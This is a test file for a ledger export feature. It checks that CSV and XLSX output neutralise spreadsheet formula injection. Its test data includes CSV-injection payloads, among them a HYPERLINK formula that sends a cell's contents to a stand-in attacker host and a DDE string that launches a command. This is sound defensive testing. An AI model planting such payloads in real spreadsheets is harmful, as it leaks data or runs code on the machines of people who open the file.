import { PassThrough, Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { sheetToCsv, writeWorkbook, type LedgerSheet } from '../../src/features/digest/ledger.ts';

// Texts officials type (存在问题) that a spreadsheet would otherwise run as formulas.
const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '\r=1+1'];
const sheet: LedgerSheet = {
  name: '问题',
  columns: [
    { header: '县区', kind: 'text' },
    { header: '存在问题', kind: 'text' },
    { header: '本周支出', kind: 'wan' },
  ],
  rows: [...HOSTILE.map((t) => ['卓尼县', t, -12.5]), ['迭部县', '资金拨付-进度慢', 3]],
};

describe('ledger cells that look like formulas', () => {
  it('are neutralised in CSV with a leading apostrophe; numbers and inner signs stay as they are', () => {
    const rows = sheetToCsv(sheet).slice(1).split('\r\n').slice(1, -1);
    expect(rows[0]).toBe('卓尼县,"\'=HYPERLINK(""http://evil.example/?q=""&A1,""点击"")",-12.5');
    expect(rows[1]).toBe("卓尼县,'@SUM(1+1)*cmd|' /C calc'!A0,-12.5");
    expect(rows[2]).toBe("卓尼县,'+1+1,-12.5");
    expect(rows[3]).toBe("卓尼县,'-2+3,-12.5");
    expect(rows[4]).toBe("卓尼县,'\t=1+1,-12.5");
    expect(sheetToCsv(sheet)).toContain('"\'\r=1+1"');
    expect(sheetToCsv(sheet)).toContain('迭部县,资金拨付-进度慢,3');
  });

  it('are stored as plain text in XLSX, never as formulas', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await writeWorkbook([sheet], out, { title: 't', created: new Date('2018-10-08T00:00:00Z') });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.read(Readable.from([Buffer.concat(chunks)]));
    const ws = wb.getWorksheet('问题')!;
    HOSTILE.forEach((text, i) => {
      const cell = ws.getRow(i + 2).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(text.replace(/\r/g, '\n')); // XML reads a lone CR as LF
    });
  });
});
